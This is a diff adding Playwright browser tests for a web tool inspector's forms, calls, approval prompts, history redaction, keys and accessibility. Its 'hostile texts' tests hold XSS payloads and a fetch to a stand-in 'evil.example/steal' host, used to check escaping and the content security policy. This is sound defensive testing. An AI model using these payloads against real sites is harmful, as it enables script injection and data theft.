@@ -1,0 +1,613 @@
+"""F-026 in a real browser: list and search, forms, calls, progress, cancel, approval, errors per field, history, live updates,
+keys, keyboard, hostile texts, light, dark and narrow."""
+
+import json
+import os
+import re
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+from apcore import Registry
+from playwright.sync_api import Page, expect
+
+from apcore_mcp.redaction import REDACTED
+from jackstay.server.http import keys
+
+# `conftest.Served`: fixtures are found by name, and test files cannot import each other.
+Serve = Any
+
+KEY = "alice-0123456789abcdef"
+
+
+def opened(page: Page, url: str, tool: str) -> None:
+    """The inspector with this tool open."""
+    page.goto(f"{url}#{tool}")
+    expect(page.locator("#tool h2")).to_have_text(tool)
+    expect(page.locator("#live")).to_have_text("live")
+
+
+def field(page: Page, path: str) -> Any:
+    """The control of the field at this path."""
+    return page.locator(f'.field[data-path="{path}"] > .widget').locator("input, textarea, select").first
+
+
+def send(page: Page, path: str) -> None:
+    """Tick the box of an optional field."""
+    page.locator(f'.field[data-path="{path}"] > .head .send input').check()
+
+
+def run(page: Page) -> None:
+    page.keyboard.press("Control+Enter")
+
+
+def ended(page: Page, how: str) -> None:
+    expect(page.locator(".result [role=status] .badge")).to_have_text(how)
+
+
+def result(page: Page) -> Any:
+    """What the JSON view says."""
+    ended(page, "done")
+    page.locator(".result").get_by_role("tab", name="JSON").click()
+    return json.loads(page.locator(".result [role=tabpanel]:visible pre").inner_text())
+
+
+# --- list and search --------------------------------------------------------------------------------------------------
+
+
+def test_tools_are_listed_searched_and_opened_by_the_keyboard_alone(page: Page, served: Serve) -> None:
+    page.goto(served())
+    expect(page.locator("#count")).to_have_text("9 tools")
+    page.keyboard.press("/")
+    page.keyboard.type("note delete")
+    expect(page.locator("#count")).to_have_text("1 of 9 tools")
+    page.keyboard.press("Control+A")
+    page.keyboard.type("#")
+    expect(page.locator("#count")).to_have_text("0 of 9 tools")
+    page.keyboard.press("Control+A")
+    page.keyboard.type("notes")
+    page.keyboard.press("ArrowDown")
+    page.keyboard.press("ArrowDown")
+    expect(page.locator("#tools button").nth(1)).to_be_focused()
+    page.keyboard.press("Enter")
+    expect(page.locator("#tool h2")).to_have_text("notes.delete")
+    expect(page.locator("#tools [aria-current=true] .name")).to_have_text("notes.delete")
+    expect(page).to_have_url(f"{page.url.split('#')[0]}#notes.delete")
+
+
+def test_a_whole_call_is_made_without_a_mouse(page: Page, served: Serve) -> None:
+    page.goto(served())
+    expect(page.locator("#count")).to_have_text("9 tools")
+    page.keyboard.press("/")
+    page.keyboard.type("text.count")
+    page.keyboard.press("Enter")
+    expect(field(page, "text")).to_be_focused()
+    page.keyboard.type("tea for two, Tea for me")
+    page.keyboard.press("Tab")
+    page.keyboard.press("Space")
+    expect(page.locator('.field[data-path="ignore_case"] > .head .send input')).to_be_checked()
+    for _ in range(10):
+        page.keyboard.press("Tab")
+        if page.evaluate("document.activeElement.classList.contains('run')"):
+            break
+    page.keyboard.press("Enter")
+    assert result(page) == {"characters": 23, "words": 6, "different_words": 4, "lines": 1}
+
+
+def test_every_control_has_a_name_for_who_cannot_see_it(page: Page, served: Serve) -> None:
+    opened(page, served(), "test.kinds")
+    for path in ("maybe", "either", "two", "pair", "map", "tree"):
+        send(page, path)
+    page.get_by_role("button", name="Add an entry").click()
+    nameless = page.evaluate(
+        """() => [...document.querySelectorAll("main input, main select, main textarea, main button, nav input")].filter((one) =>
+            one.offsetParent && !one.labels?.length && !one.getAttribute("aria-label") && !one.getAttribute("aria-labelledby")
+            && !one.textContent.trim()).map((one) => one.outerHTML)"""
+    )
+    assert nameless == []
+
+
+def test_a_thousand_tools_are_searched_without_waiting(
+    page: Page, served: Serve, demo: Registry, kinds: SimpleNamespace
+) -> None:
+    for number in range(1000):
+        demo.register(f"many.tool{number}", kinds.Plain(lambda inputs, context: {}))
+    page.goto(served())
+    expect(page.locator("#count")).to_have_text("1009 tools")
+    page.locator("#search").fill("tool99")
+    expect(page.locator("#count")).to_have_text("11 of 1009 tools")
+
+
+# --- forms ------------------------------------------------------------------------------------------------------------
+
+
+def test_every_kind_of_field_sends_what_was_typed(page: Page, served: Serve) -> None:
+    opened(page, served(), "test.kinds")
+    field(page, "word").fill('two\nlines "quoted"')
+    field(page, "whole").fill("7")
+    field(page, "yes").check()
+    field(page, "pick").select_option("null")
+    field(page, "day").fill("2026-07-28")
+    field(page, "secret").fill("hunter2hunter2")
+    field(page, "nested.inner").fill("in")
+    for number in ("1", "2", "3"):
+        page.locator('.field[data-path="list"]').get_by_role("button", name="Add an item").click()
+        page.keyboard.type(number)
+    page.get_by_role("button", name="Remove item 2").click()
+    send(page, "maybe")
+    page.locator('.field[data-path="maybe"] .variant textarea').fill("said")
+    send(page, "either")
+    field(page, "either").select_option("Named")
+    field(page, "either.name").fill("root")
+    send(page, "two")
+    field(page, "two").select_option("null")
+    send(page, "fixed")
+    send(page, "pair")
+    field(page, "pair.0").fill("left")
+    field(page, "pair.1").fill("-4")
+    send(page, "map")
+    page.get_by_role("button", name="Add an entry").click()
+    page.keyboard.type("__proto__")
+    page.locator('.field[data-path="map.*"] input').fill("1.5e3")
+    send(page, "tree")
+    field(page, "tree.name").fill("t")
+    send(page, "tree.children")
+    page.locator('.field[data-path="tree.children"]').get_by_role("button", name="Add an item").click()
+    page.keyboard.type("leaf")
+    field(page, "any").fill('{"a": [1, null]}')
+    field(page, "__proto__").fill("polluted?")
+    run(page)
+    assert result(page) == {
+        "got": {
+            "word": 'two\nlines "quoted"',
+            "whole": 7,
+            "yes": True,
+            "pick": None,
+            "day": "2026-07-28",
+            "secret": "hunter2hunter2",
+            "nested": {"inner": "in", "more": "x"},
+            "list": [1, 3],
+            "maybe": "said",
+            "either": {"name": "root"},
+            "two": None,
+            "fixed": "always",
+            "pair": ["left", -4],
+            "map": {"__proto__": 1500},
+            "tree": {"name": "t", "children": [{"name": "leaf"}]},
+            "any": {"a": [1, None]},
+            "__proto__": "polluted?",
+            "real": 2.5,
+        }
+    }
+    assert page.evaluate("({}).polluted === undefined && Object.prototype.toString !== 1500") is True
+
+
+def test_what_is_optional_and_untouched_is_not_sent(page: Page, served: Serve) -> None:
+    opened(page, served(fill_defaults=False), "test.kinds")
+    field(page, "word").fill("w")
+    field(page, "whole").fill("1")
+    field(page, "pick").select_option("a")
+    field(page, "nested.inner").fill("in")
+    run(page)
+    assert result(page)["got"] == {
+        "word": "w", "whole": 1, "yes": False, "pick": "a", "nested": {"inner": "in"}, "list": [],
+    }  # fmt: skip
+
+
+def test_arguments_go_from_the_form_to_json_and_back(page: Page, served: Serve) -> None:
+    opened(page, served(), "orders.quote")
+    field(page, "items.0.article").fill("Rope")
+    field(page, "items.0.price").fill("2")
+    page.locator(".form").get_by_role("tab", name="JSON").click()
+    raw = page.get_by_label("Arguments as JSON")
+    assert json.loads(raw.input_value()) == {"items": [{"article": "Rope", "price": 2}]}
+    raw.fill("{")
+    page.locator(".form").get_by_role("tab", name="Form").click()
+    expect(page.locator(".form > .error")).to_contain_text("Not JSON")
+    raw.fill(
+        '{"items": [{"article": "Rope", "price": 2, "quantity": 3}, {"article": "Hook", "price": 1}], "shipping": "pickup"}'
+    )
+    page.locator(".form").get_by_role("tab", name="Form").click()
+    expect(field(page, "items.0.quantity")).to_have_value("3")
+    expect(field(page, "items.1.article")).to_have_value("Hook")
+    run(page)
+    assert result(page)["total"] == 7
+
+
+def test_whole_numbers_of_any_length_keep_their_digits(page: Page, served: Serve) -> None:
+    """Scripts round what is beyond 2^53, and ids of many services are."""
+    opened(page, served(), "test.kinds")
+    field(page, "word").fill("w")
+    field(page, "whole").fill("1152921504606846977")
+    field(page, "pick").select_option("a")
+    field(page, "nested.inner").fill("in")
+    field(page, "any").fill('{"id": 9007199254740993}')
+    page.locator(".form").get_by_role("tab", name="JSON").click()
+    page.locator(".form").get_by_role("tab", name="Form").click()
+    expect(field(page, "whole")).to_have_value("1152921504606846977")
+    run(page)
+    got = result(page)["got"]
+    assert (got["whole"], got["any"]["id"]) == (1152921504606846977, 9007199254740993)
+    page.locator(".result").get_by_role("tab", name="Structured").click()
+    expect(page.locator(".result .tree")).to_contain_text("9007199254740993")
+
+
+def test_a_type_that_contains_itself_is_shown_and_filled_in(
+    page: Page, served: Serve, demo: Registry, kinds: SimpleNamespace
+) -> None:
+    """A module may take any JSON: lists of lists, maps of maps. Its tool must open as any other does."""
+    anything = [
+        {"type": "string"},
+        {"type": "array", "items": {"$ref": "#/$defs/Any"}},
+        {"type": "object", "additionalProperties": {"$ref": "#/$defs/Any"}},
+    ]
+    schema = {
+        "type": "object",
+        "required": ["value", "rows"],
+        "properties": {
+            "value": {"$ref": "#/$defs/Any"},
+            "rows": {"$ref": "#/$defs/Rows"},
+            "same": {"$ref": "#/$defs/Same"},
+        },
+        "$defs": {
+            "Any": {"anyOf": anything},
+            "Rows": {"type": "array", "items": {"$ref": "#/$defs/Rows"}},
+            "Same": {"allOf": [{"$ref": "#/$defs/Same"}, {"type": "string"}]},
+        },
+    }
+    demo.register("test.itself", kinds.Plain(lambda inputs, context: {"got": inputs}, input_schema=schema))
+    opened(page, served(), "test.itself")
+    expect(page.locator('.field[data-path="value"] > .head .kind')).to_have_text(
+        "string or list of Any or map of Any"
+    )
+    page.locator(".form").get_by_role("tab", name="JSON").click()
+    page.get_by_label("Arguments as JSON").fill('{"value": [{"a": ["b"]}], "rows": [[], [[]]]}')
+    page.locator(".form").get_by_role("tab", name="Form").click()
+    # However deep it is nested, nothing sticks out, not even on a telephone.
+    page.set_viewport_size({"width": 390, "height": 844})
+    edge = "document.querySelector('.form').getBoundingClientRect().right"
+    outside = f"[...document.querySelectorAll('.form *')].filter((one) => one.getBoundingClientRect().right > {edge})"
+    assert page.evaluate(f"{outside}.length") == 0
+    run(page)
+    assert result(page) == {"got": {"value": [{"a": ["b"]}], "rows": [[], [[]]]}}
+    page.get_by_role("tab", name="Schema", exact=True).click()
+    expect(page.locator("#tool table")).to_contain_text("list of Rows")
+
+
+def test_a_tool_whose_schema_is_none_is_told_and_the_others_open(
+    page: Page, served: Serve, demo: Registry, kinds: SimpleNamespace
+) -> None:
+    schema = {"type": "object", "properties": {"a": {"type": "object", "required": True, "properties": {}}}}
+    demo.register("test.broken", kinds.Plain(lambda inputs, context: {}, input_schema=schema))
+    page.goto(served())
+    page.locator('#tools button[data-name="test.broken"]').click()
+    expect(page.locator("#notice")).to_contain_text("test.broken cannot be shown")
+    page.locator('#tools button[data-name="text.count"]').click()
+    expect(page.locator("#tool h2")).to_have_text("text.count")
+    expect(page.locator("#notice")).to_be_hidden()
+
+
+# --- errors -----------------------------------------------------------------------------------------------------------
+
+
+def test_what_cannot_be_sent_is_said_at_its_field_before_it_is_sent(page: Page, served: Serve) -> None:
+    opened(page, served(), "test.kinds")
+    field(page, "whole").fill("1.5")
+    send(page, "any")
+    run(page)
+    errors = {path: page.locator(f'.field[data-path="{path}"] > .error') for path in ("whole", "pick", "any")}
+    expect(errors["whole"]).to_have_text("not a whole number")
+    expect(errors["pick"]).to_have_text("choose one")
+    expect(errors["any"]).to_have_text("a value in JSON is needed")
+    expect(field(page, "whole")).to_be_focused()
+    field(page, "whole").fill("1e30")
+    run(page)
+    expect(errors["whole"]).to_have_text("too large for a browser to send exactly")
+    expect(page.locator(".result")).to_be_hidden()
+
+
+def test_what_the_server_finds_wrong_is_said_at_its_field(page: Page, served: Serve) -> None:
+    opened(page, served(), "orders.quote")
+    field(page, "items.0.article").fill("Rope")
+    field(page, "items.0.price").fill("-3")
+    send(page, "address")
+    field(page, "address.postcode").fill("?")
+    run(page)
+    ended(page, "error")
+    expect(page.locator('.field[data-path="items.0.price"] > .error')).to_contain_text("exclusiveMinimum 0")
+    expect(page.locator('.field[data-path="address.postcode"] > .error')).to_contain_text("pattern")
+    expect(field(page, "items.0.price")).to_be_focused()
+    expect(field(page, "items.0.price")).to_have_attribute("aria-invalid", "true")
+    expect(page.locator(".result")).to_contain_text("Input validation failed:")
+
+
+def test_a_failure_shows_what_a_client_would_see_and_no_more(page: Page, served: Serve) -> None:
+    opened(page, served(), "payments.charge")
+    field(page, "amount").fill("3")
+    field(page, "card").fill("4111111111111111")
+    assert field(page, "card").get_attribute("type") == "password"
+    run(page)
+    ended(page, "error")
+    expect(page.locator(".result pre")).to_have_text("Internal error occurred")
+    expect(page.locator(".result .trace")).to_have_text(re.compile("^[0-9a-f]{32}$"))
+    assert "bank-gateway" not in page.content()
+
+
+# --- calls ------------------------------------------------------------------------------------------------------------
+
+
+def test_progress_is_shown_as_it_comes_and_escape_cancels(page: Page, served: Serve) -> None:
+    opened(page, served(), "report.build")
+    field(page, "sections").fill("50")
+    field(page, "seconds_each").fill("0.2")
+    run(page)
+    expect(page.locator(".chunks li").nth(1)).to_contain_text("section 1")
+    expect(page.locator(".run")).to_be_disabled()
+    page.keyboard.press("Escape")
+    ended(page, "cancelled")
+    expect(page.locator(".run")).to_be_enabled()
+    expect(page.locator("#calls li").first).to_contain_text("cancelled")
+
+
+def test_another_tool_can_be_looked_at_while_one_runs(page: Page, served: Serve) -> None:
+    url = served()
+    opened(page, url, "report.build")
+    field(page, "sections").fill("50")
+    field(page, "seconds_each").fill("0.2")
+    run(page)
+    expect(page.locator(".chunks li").first).to_be_visible()
+    page.goto(f"{url}#text.count")
+    expect(page.locator("#tool h2")).to_have_text("text.count")
+    expect(page.locator("#notice")).to_contain_text("report.build is still running")
+    expect(page.locator(".run")).to_be_disabled()
+    page.keyboard.press("Escape")
+    expect(page.locator("#notice")).to_contain_text("report.build has ended: cancelled")
+    expect(page.locator(".run")).to_be_enabled()
+
+
+def test_a_streamed_result_is_whole_and_timed_and_seen_in_three_ways(page: Page, served: Serve) -> None:
+    opened(page, served(), "report.build")
+    field(page, "sections").fill("2")
+    field(page, "seconds_each").fill("0")
+    page.get_by_role("button", name="Call", exact=True).click()
+    assert result(page)["done"] == 2
+    expect(page.locator(".result")).to_contain_text("in the server")
+    page.locator(".result").get_by_role("tab", name="Structured").click()
+    expect(page.locator(".result .tree")).to_contain_text("What happened in part 2")
+    page.keyboard.press("ArrowLeft")
+    expect(page.locator(".result").get_by_role("tab", name="Text")).to_be_focused()
+    expect(page.locator(".result [role=tabpanel]:visible pre")).to_contain_text('"done": 2')
+
+
+@pytest.mark.parametrize(("way", "is_there"), [("approve", False), ("deny", True), ("Escape", True)])
+def test_a_destructive_tool_runs_only_after_the_person_agreed(
+    page: Page, served: Serve, tmp_path: Path, way: str, is_there: bool
+) -> None:
+    (tmp_path / "old.txt").write_text("x")
+    opened(page, served(), "notes.delete")
+    field(page, "name").fill("old")
+    run(page)
+    expect(page.locator("#ask")).to_be_visible()
+    expect(page.locator("#deny")).to_be_focused()
+    expect(page.locator("#ask-text")).to_contain_text('"name": "old"')
+    if way == "Escape":
+        page.keyboard.press(way)
+    else:
+        page.locator(f"#{way}").click()
+    ended(page, "error" if is_there else "done")
+    assert (tmp_path / "old.txt").exists() is is_there
+
+
+def test_the_history_keeps_no_secrets_survives_a_reload_and_can_be_used_again(
+    page: Page, served: Serve
+) -> None:
+    opened(page, served(), "payments.charge")
+    field(page, "amount").fill("3")
+    field(page, "card").fill("4111111111111111")
+    run(page)
+    ended(page, "error")
+    kept = page.evaluate("JSON.stringify(sessionStorage) + JSON.stringify(localStorage)")
+    assert "4111111111111111" not in kept
+    assert REDACTED in kept
+    page.reload()
+    expect(page.locator("#calls li")).to_have_count(1)
+    page.get_by_role("button", name="Look").click()
+    expect(page.locator("#calls pre")).to_contain_text('"amount": 3')
+    page.get_by_role("button", name="Use again").click()
+    expect(field(page, "amount")).to_have_value("3")
+    expect(field(page, "card")).to_have_value("")
+    page.get_by_role("button", name="Clear").click()
+    expect(page.locator("#history")).to_be_hidden()
+
+
+# --- hostile texts ----------------------------------------------------------------------------------------------------
+
+
+def test_hostile_descriptions_documents_tags_keys_and_results_are_text(page: Page, served: Serve) -> None:
+    opened(page, served(), "test.hostile")
+    for tab in ("Schema", "Documentation", "Call"):
+        page.get_by_role("tab", name=tab, exact=True).first.click()
+    run(page)
+    ended(page, "done")
+    page.locator(".result").get_by_role("tab", name="Text").click()
+    expect(page.locator("#tool .said")).to_contain_text("<script>document.title='pwned'</script>")
+    expect(page.locator("#tool .said")).to_contain_text(
+        "[U+202E]gnp.exe [U+E0041][U+E0042][U+E0141][U+00AD] end"
+    )
+    assert "pwned" not in page.title()
+    assert page.locator("main img, main script, main a, nav img, nav script, nav a").count() == 0
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "const s = document.createElement('script'); s.textContent = 'document.title = 1'; document.body.append(s)",
+        "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
+        "document.body.setAttribute('onclick', 'alert(1)'); document.body.click()",
+        "fetch('https://evil.example/steal')",
+        "const i = new Image(); i.src = 'https://evil.example/x.png'",
+        "document.body.append(Object.assign(document.createElement('iframe'), {src: '/inspector'}))",
+    ],
+)
+def test_even_a_script_that_got_in_could_not_do_it(page: Page, served: Serve, attack: str) -> None:
+    opened(page, served(), "test.hostile")
+    page.evaluate(
+        "document.addEventListener('securitypolicyviolation', (e) => { window.stopped = e.effectiveDirective; })"
+    )
+    page.evaluate(f"try {{ {attack} }} catch (error) {{ window.stopped ||= String(error); }} null")
+    page.wait_for_function("window.stopped")
+    page.wrong.clear()  # type: ignore[attr-defined]  # Chromium tells of each
+    assert "pwned" not in page.title()
+
+
+def test_the_page_cannot_be_put_into_another(page: Page, served: Serve) -> None:
+    url = served()
+    page.goto(url.replace("/inspector", "/health"))
+    page.set_content(f'<iframe src="{url}"></iframe>')
+    frame = page.frames[-1]
+    frame.wait_for_load_state()
+    assert "Tool Inspector" not in frame.content()
+    page.wrong.clear()  # type: ignore[attr-defined]  # Chromium tells of it
+
+
+# --- live updates, keys -----------------------------------------------------------------------------------------------
+
+
+def test_modules_that_come_change_and_go_are_seen_at_once(
+    page: Page, served: Serve, demo: Registry, kinds: SimpleNamespace
+) -> None:
+    page.goto(served())
+    expect(page.locator("#live")).to_have_text("live")
+    demo.register("new.tool", kinds.Plain(lambda inputs, context: {}, input_schema=kinds.Numbers))
+    expect(page.locator("#count")).to_have_text("10 tools")
+    page.locator("#tools button", has_text="new.tool").click()
+    field(page, "a").fill("41")
+    demo.unregister("new.tool")
+    expect(page.locator("#notice")).to_have_text("new.tool is no longer offered.")
+    expect(page.locator("#count")).to_have_text("9 tools")
+    demo.register(
+        "new.tool", kinds.Plain(lambda inputs, context: {}, input_schema=kinds.Numbers, description="Other")
+    )
+    expect(page.locator("#notice")).to_contain_text("has changed")
+    expect(page.locator("#tool .said")).to_have_text("Other")
+    expect(field(page, "a")).to_have_value("41")
+
+
+def test_a_module_that_cannot_be_offered_is_shown_with_its_reason(
+    page: Page, served: Serve, demo: Registry, kinds: SimpleNamespace
+) -> None:
+    page.goto(served())
+    expect(page.locator("#live")).to_have_text("live")
+    expect(page.locator("#skipped")).to_be_hidden()
+    demo.register("test.broken", kinds.Plain(lambda inputs, context: {}, input_schema={"type": "array"}))
+    expect(page.locator("#skipped summary")).to_have_text("1 module skipped")
+    page.locator("#skipped summary").click()
+    expect(page.locator("#skipped li")).to_contain_text("test.broken")
+    expect(page.locator("#skipped li")).to_contain_text("not an object")
+    demo.unregister("test.broken")
+    expect(page.locator("#skipped")).to_be_hidden()
+
+
+def test_a_tab_that_nobody_sees_holds_no_connection_and_catches_up(
+    page: Page, served: Serve, demo: Registry, kinds: SimpleNamespace
+) -> None:
+    """Six of them would use up all connections of a browser to one server."""
+    page.goto(served())
+    expect(page.locator("#live")).to_have_text("live")
+    see = "(is) => { Object.defineProperty(document, 'hidden', {value: !is, configurable: true}); document.dispatchEvent(new Event('visibilitychange')); }"
+    page.evaluate(see, False)
+    expect(page.locator("#live")).to_have_text("paused")
+    demo.register("new.tool", kinds.Plain(lambda inputs, context: {}))
+    expect(page.locator("#count")).to_have_text("9 tools")
+    page.evaluate(see, True)
+    expect(page.locator("#count")).to_have_text("10 tools")
+    expect(page.locator("#live")).to_have_text("live")
+
+
+def test_a_server_that_went_away_is_told_and_found_again(page: Page, served: Serve) -> None:
+    page.goto(served())
+    expect(page.locator("#live")).to_have_text("live")
+    served.stop()
+    expect(page.locator("#live")).to_have_text("not connected, trying again")
+    served()
+    expect(page.locator("#live")).to_have_text("live")
+
+
+def test_a_server_with_a_key_asks_for_it_and_keeps_it_in_the_page_alone(page: Page, served: Serve) -> None:
+    page.goto(served(auth=keys({"alice": KEY})))
+    expect(page.locator("#key")).to_be_visible()
+    page.keyboard.type("wrong-0123456789abcdef")
+    page.keyboard.press("Enter")
+    expect(page.locator("#key-error")).to_contain_text("the token is not valid here")
+    page.keyboard.type(KEY)
+    page.keyboard.press("Enter")
+    expect(page.locator("#count")).to_have_text("9 tools")
+    expect(page.locator("#live")).to_have_text("live")
+    page.locator("#tools button", has_text="text.count").click()
+    field(page, "text").fill("a b")
+    run(page)
+    assert result(page)["words"] == 2
+    assert KEY not in page.evaluate("JSON.stringify(sessionStorage) + JSON.stringify(localStorage)")
+
+
+# --- looks ------------------------------------------------------------------------------------------------------------
+
+CONTRAST = """() => {
+  const parse = (text) => { const c = document.createElement("canvas").getContext("2d"); c.fillStyle = text; c.fillRect(0, 0, 1, 1); return [...c.getImageData(0, 0, 1, 1).data]; };
+  const light = ([r, g, b]) => [r, g, b].map((v) => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; }).reduce((sum, v, at) => sum + v * [0.2126, 0.7152, 0.0722][at], 0);
+  const ground = (node) => { for (; node; node = node.parentElement) { const c = parse(getComputedStyle(node).backgroundColor); if (c[3] === 255) return c; } return [255, 255, 255, 255]; };
+  const weak = [];
+  for (const node of document.querySelectorAll("body *")) {
+    if (!node.offsetParent || ![...node.childNodes].some((one) => one.nodeType === 3 && one.textContent.trim())) continue;
+    if (node.closest(".off, :disabled, .hidden, script, style")) continue;
+    const [a, b] = [light(parse(getComputedStyle(node).color)), light(ground(node))].sort((x, y) => y - x);
+    const ratio = (a + 0.05) / (b + 0.05);
+    if (ratio < 4.5) weak.push(`${ratio.toFixed(2)} ${node.className || node.tagName}: ${node.textContent.slice(0, 30)}`);
+  }
+  return weak;
+}"""
+
+
+@pytest.mark.parametrize(
+    ("scheme", "width"), [("light", 1360), ("dark", 1360), ("light", 390), ("dark", 390)]
+)
+def test_it_can_be_read_in_light_and_dark_wide_and_narrow(
+    page: Page, served: Serve, scheme: Any, width: int
+) -> None:
+    """WCAG 1.4.3 (contrast 4.5 : 1) and 1.4.10 (no scrolling sideways)."""
+    page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
+    page.set_viewport_size({"width": width, "height": 860})
+    opened(page, served(), "orders.quote")
+    field(page, "items.0.article").fill("Rope")
+    field(page, "items.0.price").fill("2")
+    run(page)
+    ended(page, "done")
+    pictures = os.environ.get("SCREENSHOTS")
+    for view in ("Call", "Schema"):
+        page.get_by_role("tab", name=view, exact=True).click()
+        if pictures:
+            page.screenshot(path=Path(pictures, f"{view.lower()}-{scheme}-{width}.png"))
+        assert page.evaluate(CONTRAST) == []
+        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth") is True
+        assert (
+            page.evaluate(
+                "(main) => main.scrollWidth <= main.clientWidth", page.locator("main").element_handle()
+            )
+            is True
+        )
+    if width < 760:
+        page.get_by_role("button", name="Back to the list of tools").click()
+        expect(page.locator("#search")).to_be_focused()
+        assert page.evaluate(CONTRAST) == []
+
+
+def test_the_theme_can_be_chosen_and_is_kept(page: Page, served: Serve) -> None:
+    page.goto(served())
+    button = page.locator("#theme")
+    for name, ground in (("light", "rgb(244, 246, 248)"), ("dark", "rgb(15, 21, 27)")):
+        button.click()
+        expect(button).to_have_text(f"Theme: {name}")
+        expect(page.locator("body")).to_have_css("background-color", ground)
+    page.reload()
+    expect(button).to_have_text("Theme: dark")
